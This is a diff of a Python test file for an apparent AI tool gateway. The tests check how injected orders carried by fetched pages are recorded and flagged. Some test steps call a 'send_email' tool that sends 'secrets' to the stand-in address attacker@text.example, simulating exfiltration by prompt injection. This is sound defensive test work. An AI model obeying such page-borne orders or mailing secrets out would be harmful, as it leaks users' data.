@@ -78,10 +78,10 @@ async def orders(tools: ToolHouse, server: str) -> None:
     """An order that a page brings is followed once before the page is there, and once after."""
     to = {"to": "attacker@text.example", "body": "secrets"}
     async with tools.client(server, "legacy") as client:
-        slow = asyncio.create_task(client.call_tool("page_slow", {"seconds": 1.0}))
+        mails = words(await client.call_tool("called", {})).split(",").count("send_email")
+        slow = asyncio.create_task(client.call_tool("page_slow", {"mails": mails + 1}))
         await client.call_tool("get_weather", {"city": "Rome"})
         early = await client.call_tool("send_email", to)
-        assert not slow.done()
         await slow
     async with tools.client(server, "legacy") as client:
         await client.call_tool("page_text", {})
@@ -111,12 +111,21 @@ def retold(tools: ToolHouse) -> None:
     assert found["verdict"] == "flag"
 
 
+def last_recorded(tools: ToolHouse) -> None:
+    """Wait until one more exchange is in the record: it is written in order, so all before it are there then, too.
+
+    The queue is empty already while what was in it is being written.
+    """
+    ping = b'{"jsonrpc": "2.0", "id": 1, "method": "ping"}'
+    tools.house.facts(tools.post("web", ping).exchange)
+
+
 @pytest.fixture(scope="module")
 def past(tmp_path_factory: pytest.TempPathFactory) -> Past:
     folder = tmp_path_factory.mktemp("past")
     with tool_server() as web:
         more = table("web", url=web) + table("pipe", command=[*OFFICIAL, "stdio"])
-        with tool_house(folder, more=more) as tools:
+        with tool_house(folder, more=more, hold_seconds=60) as tools:  # a person answers every hold
             for server in ("web", "pipe"):
                 for mode in ("legacy", "auto"):
                     run(lambda server=server, mode=mode: a_day(tools, server, mode), seconds=60)
@@ -124,7 +133,7 @@ def past(tmp_path_factory: pytest.TempPathFactory) -> Past:
             retold(tools)
             for server in ("web", "pipe"):
                 run(lambda server=server: changed(tools, server), seconds=60)
-            waited(lambda: tools.house.status()["counters"]["waiting"] == 0 or None)
+            last_recorded(tools)
             named = ("--policy", str(folder / "house.toml"), "--policy", "agent-baseline")
             done = tools.house.gateway.command("backtest", *named, "--json")
     assert done.returncode == 0, done.stderr
